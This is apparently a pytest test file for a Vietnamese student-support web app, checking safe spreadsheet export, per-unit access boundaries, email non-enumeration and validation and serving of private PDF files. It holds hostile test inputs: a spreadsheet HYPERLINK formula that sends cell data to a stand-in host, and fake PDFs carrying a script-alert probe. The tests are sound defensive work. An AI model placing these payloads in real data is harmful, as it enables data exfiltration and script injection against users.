"""Exports, unit boundaries and private files (issue 13 items 4, 6, 7)."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from app import private_files
from app.errors import DomainError, NotFound
from app.extensions import db
from app.jobs.models import JobRun
from app.mail_models import OutboxMail
from students.registry.services import create_student
from tests.conftest import login
from tests.fixtures.documents import pdf_bytes
from tests.fixtures.students import import_row, import_xlsx, student_data

HYPERLINK = '=HYPERLINK("http://ke-xau.example/?"&A1,"Bấm vào đây")'


# --- spreadsheets are data, not formulas -----------------------------------------------------


def test_signoff_list_writes_a_hostile_name_and_class_as_text(client, world):
    student = world["student"]
    student.full_name, student.class_name = HYPERLINK, "=1+1"
    db.session.commit()
    login(client, world["manager"])
    response = client.get(f"/quan-tri/dot-trao/{world['round'].public_id}/ky-nhan.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    name = next(c for c in cells if "HYPERLINK" in str(c.value))
    klass = next(c for c in cells if "1+1" in str(c.value))
    assert name.data_type == "s" and name.value == "'" + HYPERLINK
    assert klass.data_type == "s" and klass.value == "'=1+1"
    assert not [c for c in cells if c.data_type == "f"]


# --- unit boundaries ------------------------------------------------------------------------


def test_a_field_user_cannot_attach_a_student_to_another_units_school(make_user, places, units):
    field = make_user("field", "a")
    data = student_data(places, units, school_id=places["school_b"].id)
    with pytest.raises(NotFound) as refused:
        create_student(field, data)
    assert refused.value.field == "school_id"


def test_a_duplicate_in_another_unit_is_named_without_its_id(
    make_student, make_user, places, units
):
    other = make_student(unit_id=units["b"].id, full_name="Vàng Thị Trùng")
    manager = make_user("manager", "a")
    data = student_data(places, units, full_name="Vang Thi Trung")
    with pytest.raises(DomainError) as refused:
        create_student(manager, data)
    message = str(refused.value.message)
    assert "đơn vị khác" in message and other.public_id not in message
    # Within one's own unit the id is given, to open the existing file.
    mine = make_student(full_name="Lù Văn Cùng")
    with pytest.raises(DomainError) as same_unit:
        create_student(manager, student_data(places, units, full_name="Lu Van Cung"))
    assert mine.public_id in str(same_unit.value.message)


def test_the_import_preview_does_not_reveal_another_units_student(
    client, make_student, make_user, places, units
):
    other = make_student(unit_id=units["b"].id, full_name="Sùng Thị Khác")
    login(client, make_user("field", "a"))
    data = import_xlsx(
        [
            import_row(
                "Sung Thi Khac", other.birth_date.strftime("%d/%m/%Y"), places["school_a"].name
            )
        ]
    )
    response = client.post(
        "/quan-tri/hoc-sinh/nhap",
        data={"unit_id": units["a"].id, "file": (io.BytesIO(data), "ds.xlsx")},
        content_type="multipart/form-data",
    )
    preview = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "đơn vị khác" in preview and other.public_id not in preview


def test_files_of_another_unit_answer_404_like_files_that_do_not_exist(client, world, make_user):
    login(client, make_user("manager", "b"))
    pairs = [
        (f"/quan-tri/dot-trao/minh-chung/{world['evidence'].id}", "/quan-tri/dot-trao/minh-chung/987654"),
        (f"/quan-tri/hoc-sinh/dong-y/{world['consent'].id}/ban-quet", "/quan-tri/hoc-sinh/dong-y/987654/ban-quet"),
        (f"/quan-tri/chi-tieu/{world['expense'].id}/hoa-don", "/quan-tri/chi-tieu/987654/hoa-don"),
        (f"/quan-tri/hoc-sinh/{world['student'].public_id}/anh/xem", "/quan-tri/hoc-sinh/HS-KHONGCO/anh/xem"),
    ]  # fmt: skip
    for existing, missing in pairs:
        assert client.get(existing).status_code == 404, existing
        assert client.get(missing).status_code == 404, missing


def test_my_gifts_does_the_same_work_whether_or_not_the_address_gave(client, make_pledge):
    make_pledge(email="da.ung.ho@example.com", amount=200_000)
    for email in ("da.ung.ho@example.com", "chua.bao.gio@example.com"):
        response = client.post("/qua-cua-toi", data={"email": email, "website": ""})
        assert response.status_code == 302
    jobs = [j.name for j in db.session.query(JobRun).order_by(JobRun.queued_at)]
    assert jobs.count("receipts.send_my_gifts_link") == 2  # one job each, nothing else
    sent = [m.to for m in db.session.query(OutboxMail)]
    assert "da.ung.ho@example.com" in sent and "chua.bao.gio@example.com" not in sent


# --- private files ---------------------------------------------------------------------------


def test_a_pdf_is_checked_by_its_structure_not_its_first_bytes():
    assert private_files.pdf(pdf_bytes(), "thu").relative.endswith(".pdf")
    for fake in (
        b"%PDF-1.4\n<html><script>alert(1)</script></html>",
        b"%PDF-1.7\n%%EOF",
        b"%PDF-" + b"A" * 5000,
    ):
        with pytest.raises(DomainError):
            private_files.pdf(fake, "thu")


def test_a_pdf_scan_is_served_as_an_attachment_never_sniffed(client, world, app):
    from students.care.services import record_consent

    consent = record_consent(
        world["manager"],
        world["student"],
        guardian_name="Người Giám Hộ",
        given_on=world["consent"].given_on,
        scope="basic",
        child_agreed=True,
        scan=pdf_bytes(),
        scan_name="dong-y.pdf",
    )
    from app import uow

    uow.commit()
    login(client, world["manager"])
    response = client.get(f"/quan-tri/hoc-sinh/dong-y/{consent.id}/ban-quet")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    assert response.headers["Cache-Control"] == "no-store"
    image = client.get(f"/quan-tri/hoc-sinh/dong-y/{world['consent'].id}/ban-quet")
    assert image.mimetype.startswith("image/")  # re-encoded by Pillow: may show inline
    assert "attachment" not in image.headers.get("Content-Disposition", "")
